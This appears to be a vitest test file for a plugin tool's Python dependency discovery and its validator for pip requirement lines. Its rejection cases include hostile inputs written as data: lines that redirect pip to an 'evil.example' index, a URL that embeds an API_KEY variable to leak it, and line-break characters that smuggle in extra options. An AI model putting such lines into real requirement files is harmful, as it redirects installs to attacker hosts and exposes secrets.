import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { inspectPlugin } from '@obscura/executor';
import { type Manifest, readManifest } from '@obscura/protocol';
import { describe, expect, it } from 'vitest';
import { allDependencies } from '../../src/prepare/dependencies/all-dependencies.js';
import { dependenciesOf } from '../../src/prepare/dependencies/dependencies-of.js';
import { dependencySources } from '../../src/prepare/dependencies/dependency-sources.js';
import { flawOf } from '../../src/prepare/dependencies/requirement-flaw.js';
import { requirementLines } from '../../src/prepare/dependencies/requirement-lines.js';
import { scriptHeaders } from '../../src/prepare/dependencies/script-header.js';
import { temporaryDirectory, write, writePlugin } from '../support/host.js';

const HEADER = '# /// script\n# dependencies = ["cats>=1"]\n# ///\n';
const PROJECT = '[project]\ndependencies = ["cats>=3"]\n';

function directory(files: Readonly<Record<string, string>>): string {
  const dir = temporaryDirectory();
  for (const [path, text] of Object.entries(files)) writeFileSync(join(dir, path), text);
  return dir;
}

function manifestWith(script: readonly string[]): Manifest {
  const words = JSON.stringify(script);
  const read = readManifest(
    `id: cats\nname: Cats\nversion: 1.0.0\nruntime: python\nscript: ${words}\ncapabilities: { movieByName: true }\n`,
  );
  if (!read.ok) throw new Error(read.issues[0]?.message);
  return read.manifest;
}

const MANIFEST = manifestWith(['python3', 'main.py', 'other.py']);

describe('the dependencies of a plugin', () => {
  it('are what the first file says that says anything', () => {
    const all = { 'main.py': HEADER, 'requirements.txt': 'cats>=2\n', 'pyproject.toml': PROJECT };
    const dir = directory(all);
    expect(dependencySources(dir, MANIFEST)).toEqual([
      { place: join(dir, 'main.py'), requirements: ['cats>=1'] },
      { place: join(dir, 'requirements.txt'), requirements: ['cats>=2'] },
      { place: join(dir, 'pyproject.toml'), requirements: ['cats>=3'] },
    ]);
    expect(dependenciesOf(dir, MANIFEST)?.requirements).toEqual(['cats>=1']);
    expect(dependenciesOf(dir)?.requirements).toEqual(['cats>=2']);
  });

  it('are none if it says so, or nothing', () => {
    expect(
      dependenciesOf(directory({ 'main.py': '# /// script\n# ///\n', 'requirements.txt': 'cats' }), MANIFEST),
    ).toBe(undefined);
    expect(dependencySources(directory({ 'main.py': 'pass', 'pyproject.toml': '[tool.ruff]\n' }), MANIFEST)).toEqual(
      [],
    );
  });

  it('are found in a script that starts by itself', () => {
    expect(dependenciesOf(directory({ 'main.py': HEADER }), manifestWith(['./main.py']))?.requirements).toEqual([
      'cats>=1',
    ]);
  });

  it.each([
    ['no TOML', { 'pyproject.toml': '[project\n' }, 'has TOML that cannot be read'],
    ['no list', { 'pyproject.toml': '[project]\ndependencies = "cats"\n' }, 'no list of strings'],
    ['a number', { 'main.py': HEADER.replace('"cats>=1"', '1') }, 'no list of strings'],
    ['an option', { 'requirements.txt': 'cats\n-r more.txt\n' }, 'is no requirement: -r more.txt'],
    ['too many', { 'requirements.txt': 'cats\n'.repeat(501) }, 'more than 500 entries'],
    ['too much', { 'requirements.txt': '#'.repeat(256 * 1024 + 1) }, 'is larger than 256 KiB'],
  ])('are refused if they are %s', (_, files, message) => {
    expect(() => dependencySources(directory(files), MANIFEST)).toThrow(message);
  });

  it('are refused if they are in no file', () => {
    const dir = directory({});
    symlinkSync('/etc/hostname', join(dir, 'requirements.txt'));
    expect(() => dependencySources(dir, MANIFEST)).toThrow('requirements.txt is a symbolic link');
    const other = directory({});
    mkdirSync(join(other, 'pyproject.toml'));
    expect(() => dependencySources(other, MANIFEST)).toThrow('pyproject.toml is not a file');
  });
});

describe('a line for pip', () => {
  it.each([
    'requests',
    'requests[socks,use_chardet]>=2,<3',
    'lib @ https://example.org/lib-1.0-py3-none-any.whl#sha256=00',
    `lib>=1; python_version < "3.12" and sys_platform != 'win32'`,
    'a==1   --hash=sha256:00ff --hash=sha256:11',
  ])('may be %s', (line) => {
    expect(flawOf(line)).toBeUndefined();
  });

  it.each<[line: string, flaw: string]>([
    ['-e .', 'is no requirement'],
    ['./lib', 'is no requirement'],
    ['$HOME', 'is no requirement'],
    ['', 'is no requirement'],
    ['lib --index-url=https://evil.example', 'has an option of pip'],
    ['lib\t-i https://evil.example', 'has an option of pip'],
    ['lib --hash=sha256:00 --pre', 'has an option of pip'],
    ['lib @ https://evil.example/${API_KEY}/lib-1-py3-none-any.whl', 'has a variable'],
    ['lib\\', 'goes on in the next line'],
    // Python takes each of these for the end of a line, and pip for the beginning of an option.
    ...[...'\n\r\v\f\u001c\u001d\u001e\u0085\u2028\u2029'].map((end): [string, string] => [
      `lib${end}--pre`,
      'has a line break',
    ]),
  ])('may not be %j', (line, flaw) => {
    expect(flawOf(line)).toBe(flaw);
  });
});

it('those of plugins that require each other are found once', () => {
  const root = temporaryDirectory();
  for (const [id, requires] of [
    ['a', ['b']],
    ['b', ['a']],
  ] as const)
    write(writePlugin(root, id, { requires }), { 'requirements.txt': `lib-of-${id}\n` });
  const inspection = inspectPlugin(join(root, 'a'), { pluginsRoot: root });
  if (inspection.is !== 'plugin') throw new Error('it is there');
  expect(allDependencies(inspection.plugin).flatMap(({ requirements }) => requirements)).toEqual([
    'lib-of-a',
    'lib-of-b',
  ]);
});

describe('the header of a script', () => {
  it.each([
    [
      '#!/usr/bin/env python3\n# /// script\n# dependencies = ["a"]\n#\n# x = 1\n# ///\nprint()\n',
      ['dependencies = ["a"]\n\nx = 1'],
    ],
    ['# /// script\r\n# a = 1\r\n# ///\r\n', ['a = 1']],
    ['# /// script\n# never = "ends"\nprint()\n', []],
    ['# /// script\n# never = "ends"', []],
    ['print("# /// script")\n', []],
    ['# /// script \n# a = 1\n# ///\n', []],
    ['# /// script\n# a = """\n# ///\n# """\n# ///\n# more', ['a = """\n///\n"""']],
    ['# /// script\n# a = 1\n# ///\n\n# /// script\n# a = 2\n# ///\n', ['a = 1', 'a = 2']],
    ['# /// script\n# no end\n\n# /// script\n# ///', ['']],
  ])('of %j is %j', (text, headers) => {
    expect(scriptHeaders(text)).toEqual(headers);
  });

  it('is refused if there is a second one', () => {
    const dir = directory({ 'main.py': `${HEADER}\n${HEADER}` });
    expect(() => dependencySources(dir, MANIFEST)).toThrow('main.py has two headers');
  });
});

it('a requirements.txt is read line by line, without comments', () => {
  const text =
    '# all\na==1 \\\n  --hash=sha256:00\n\nb[x]>=2 ; python_version < "4" # why\nc @ https://x.example/c.whl#egg=c\r\n';
  expect(requirementLines(text)).toEqual([
    'a==1   --hash=sha256:00',
    'b[x]>=2 ; python_version < "4"',
    'c @ https://x.example/c.whl#egg=c',
  ]);
});
